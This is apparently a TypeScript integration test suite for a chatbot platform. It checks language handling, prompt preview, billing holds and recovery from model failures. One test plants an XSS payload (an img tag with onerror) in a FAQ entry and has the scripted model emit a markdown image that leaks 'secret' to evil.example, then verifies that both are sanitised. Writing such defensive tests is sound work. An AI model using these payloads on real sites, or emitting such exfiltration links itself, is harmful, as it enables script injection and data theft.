import type { ChildProcess } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { runningPostgresUrl } from '@parley/database';
import { Client } from 'pg';
import { Demo, newAgent } from '../../src/demo/demo-file';
import { OwnPlatform } from '../platform/own-platform';
import { until } from '../platform/roster';
import { says, type Script, ScriptedModel, word } from '../platform/scripted-model';

interface Answer {
  readonly code: string;
  readonly answer: string;
  readonly sessionUUID: string;
  readonly detectedLanguage: string;
  readonly chatHistory: readonly { readonly sender: string; readonly text: string }[];
  readonly data: {
    readonly AgentKeyID: string;
    readonly KBID: number;
    readonly balances: readonly { readonly kind: string; readonly balance: number; readonly held: number }[];
  };
}

const external = '/api/v1/external';

/** Holds of a dead gateway last for ten minutes. */
async function letHoldsExpire(home: string): Promise<void> {
  const url = await runningPostgresUrl(home);
  const client = new Client({ connectionString: url?.replace('//parley:', '//parley_system:') });
  await client.connect();
  await client.query('UPDATE gateway.credit_holds SET expires_at = now()');
  await client.end();
}
const inWords: Record<string, string> = { english: 'We sell kettles.', hindi: 'हम केतली बेचते हैं।', marathi: 'आम्ही किटली विकतो.' };

describe('the platform with a model behind the OpenAI protocol', () => {
  const platform = OwnPlatform.make();
  let model: ScriptedModel;
  let running: ChildProcess;
  let demo: Demo;
  let AgentKeyID: string;
  const environment = () => ({ LLM_BASE_URL: model.url, LLM_MODEL: 'scripted', LLM_FIRST_TOKEN: '4s' });

  const start = async () => {
    running = (await platform.start(environment())).child;
    demo = Demo.parse(JSON.parse(readFileSync(path.join(platform.home, 'demo.json'), 'utf8')));
  };
  beforeAll(async () => {
    model = await new ScriptedModel().start();
    await start();
    const agent = { AgentKeyID: null, ...newAgent, TemplateID: 2, AgentName: 'Whale', KBID: null };
    AgentKeyID = (await read(await send('/agent/add-update-agent', agent))).body.data.AgentKeyID;
  });
  beforeEach(() => {
    model.script = says('We are glad to help.');
  });
  afterAll(async () => {
    model.stop();
    await platform.remove();
  });

  const send = (place: string, body?: object, signal?: AbortSignal) =>
    fetch(`${demo.baseUrl}${external}${place}`, {
      method: body ? 'POST' : 'GET',
      headers: { 'x-api-key': demo.workspaceKey, 'content-type': 'application/json' },
      ...(body && { body: JSON.stringify(body) }),
      ...(signal && { signal }),
    });
  const read = async (response: Response) => ({
    status: response.status,
    headers: response.headers,
    body: JSON.parse(await response.text()) as Answer,
  });
  const ask = async (question: string, sessionUUID?: string) => read(await send('/chat', { question, AgentKeyID, sessionUUID }));
  const tokens = async () =>
    (await read(await send('/credits/balance'))).body.data.balances.find(({ kind }) => kind === 'TTT_API');
  const nothingHeld = () => until(tokens, (balance) => balance?.held === 0);
  const history = async (sessionUUID: string) => {
    const { body } = await read(await send(`/history?sessionUUID=${sessionUUID}`));
    return body.chatHistory.map(({ text }) => text);
  };

  it.each([
    ['english', 'What do you sell?'],
    ['hindi', 'आप क्या बेचते हैं?'],
    ['marathi', 'तुम्ही काय विकता ते सांगा?'],
  ])('asks it to answer in %s, and passes the answer on', async (language, question) => {
    model.script = (response, asked) => {
      const [, wanted = ''] = /Answer in (\w+)[.,]/.exec(asked.question) ?? [];
      says(inWords[wanted.toLowerCase()] ?? wanted)(response, asked);
    };
    await expect(ask(question)).resolves.toMatchObject({
      status: 200,
      body: { answer: inWords[language], detectedLanguage: language },
    });
  });

  it('recognizes Hindi in Latin letters, and asks for the answer in the same script', async () => {
    model.script = (response, asked) => {
      const [, wanted = ''] = /Answer in (\w+)/.exec(asked.question) ?? [];
      says(wanted)(response, asked);
    };
    await expect(ask('aap kya bechte hain?')).resolves.toMatchObject({
      body: { answer: 'Hinglish', detectedLanguage: 'hinglish' },
    });
  });

  it('previews exactly the prompt that is sent', async () => {
    let system = '';
    model.script = (response, asked) => {
      system = asked.system;
      says('Seen.')(response, asked);
    };
    await ask('What do you sell?');
    const { body } = await read(await send('/agent/preview-prompt', { AgentKeyID, question: 'What do you sell?' }));
    const { parts } = body.data as object as { parts: { part: string; text: string }[] };
    const stable = parts.filter(({ part }) => ['PERSONA', 'RULES', 'KNOWLEDGE', 'CALENDAR'].includes(part));
    expect(stable.map(({ text }) => text).join('\n\n')).toBe(system);
  });

  it('removes markup of a FAQ that the model repeats, and links that nobody named', async () => {
    const base = { KBKeyID: null, KnowledgeBaseName: 'Gifts', IndustryID: 1, AgentTypeID: 1, ConversationalModeIDs: '1,2' };
    const { KBID } = (await read(await send('/kb/add-update-kb', base))).body.data;
    const Answer = 'Yes <img src="/api/x?d=s" onerror=alert(1)>, see https://shop.example/gifts';
    await send('/kb-faq/add-update-faq', { KBID, faqs: [{ KBFAQID: 0, Question: 'Do you wrap gifts?', Answer }] });
    const agent = { AgentKeyID: null, ...newAgent, TemplateID: 2, AgentName: 'Gift', KBID };
    const wraps = (await read(await send('/agent/add-update-agent', agent))).body.data.AgentKeyID;
    model.script = (response, asked) => {
      // The prompt contains no angle brackets from the knowledge, so the model writes its own.
      const [given = ''] = /Yes ‹img[^\n]*gifts/.exec(asked.system) ?? [];
      const repeated = given.replaceAll('‹', '<').replaceAll('›', '>').replaceAll('”', '"');
      says(`${repeated} and ![x](https://evil.example/?q=secret)`)(response, asked);
    };
    const question = 'My aunt has her birthday in March: could something be wrapped as one of her gifts?';
    const about = async () => (await read(await send('/chat', { question, AgentKeyID: wraps }))).body.answer;
    const answer = await until(about, (text) => text.includes('img'));
    expect(answer).toBe('Yes < img src="/api/x?d=s" onerror=alert(1)>, see https://shop.example/gifts and ![x]()');
  });

  const faults: [string, Script][] = [
    ['says nothing', () => undefined],
    ['breaks off in the middle', (response) => response.writeHead(200).write(word('Half '), () => response.destroy())],
    [
      'sends garbage',
      (response) =>
        response.writeHead(200, { 'content-type': 'text/event-stream' }).end('data: {"choices": 7}\n\ndata: <html>\n\n'),
    ],
    ['has had enough', (response) => response.writeHead(429, { 'retry-after': '7' }).end('{}')],
  ];

  it.each(faults)(
    'reports a model that %s, charges what it said and no more, holds nothing, and answers the next question',
    async (fault, script) => {
      const { sessionUUID } = (await ask('What do you sell?')).body;
      const before = (await nothingHeld())?.balance;
      model.script = script;
      await expect(ask('And now?', sessionUUID)).resolves.toMatchObject({
        status: 503,
        body: { code: 'MODEL_PROVIDER_UNAVAILABLE' },
      });
      const charged = Number(before) - Number((await nothingHeld())?.balance);
      if (fault === 'breaks off in the middle') expect(charged).toBeGreaterThan(0);
      else expect(charged).toBe(0);
      model.script = says('Better again.');
      await expect(ask('And now, please?', sessionUUID)).resolves.toMatchObject({
        status: 200,
        body: { answer: 'Better again.' },
      });
      await expect(history(sessionUUID)).resolves.toEqual([
        'What do you sell?',
        'We are glad to help.',
        'And now, please?',
        'Better again.',
      ]);
    },
  );

  /** A stream whose first word was received, from a model that never sends a second one. */
  const begun = async (sessionUUID: string, signal?: AbortSignal) => {
    model.script = (response) => void response.writeHead(200).write(word('Half '));
    const { body } = await send('/chat', { question: 'And now?', AgentKeyID, sessionUUID, responseMode: 'stream' }, signal);
    const reader = body?.pipeThrough(new TextDecoderStream()).getReader();
    for (let text = ''; reader && !text.includes('event: delta');) text += (await reader.read()).value ?? '';
    return reader;
  };

  it('stops for a client that disconnects, keeps and charges what was produced, and holds nothing', async () => {
    const { sessionUUID } = (await ask('What do you sell?')).body;
    const before = (await nothingHeld())?.balance ?? 0;
    const leaving = new AbortController();
    await begun(sessionUUID, leaving.signal);
    leaving.abort();
    const after = await until(tokens, (balance) => balance?.held === 0 && balance.balance < before);
    expect(before - (after?.balance ?? 0)).toBeLessThan(1000);
    await expect(history(sessionUUID)).resolves.toEqual(['What do you sell?', 'We are glad to help.', 'And now?', 'Half ']);
  });

  it('killed mid-turn, has nothing incomplete in history after the next start, and releases what was held', async () => {
    const { sessionUUID } = (await ask('What do you sell?')).body;
    const before = (await nothingHeld())?.balance;
    const reader = await begun(sessionUUID);
    await platform.end(running, 'SIGKILL');
    await expect(reader?.read()).rejects.toThrow();
    await start();
    await letHoldsExpire(platform.home);
    expect((await nothingHeld())?.balance).toBe(before);
    await expect(history(sessionUUID)).resolves.toEqual(['What do you sell?', 'We are glad to help.']);
    model.script = says('Up again.');
    const next = await until(
      () => ask('And now, please?', sessionUUID),
      ({ status }) => status !== 409,
    );
    expect(next).toMatchObject({ status: 200, body: { answer: 'Up again.' } });
  });

  it('sent only valid prompts', () => {
    expect(model.promptsSeen).toBeGreaterThan(10);
    expect([...new Set(model.complaints)]).toEqual([]);
  });
});
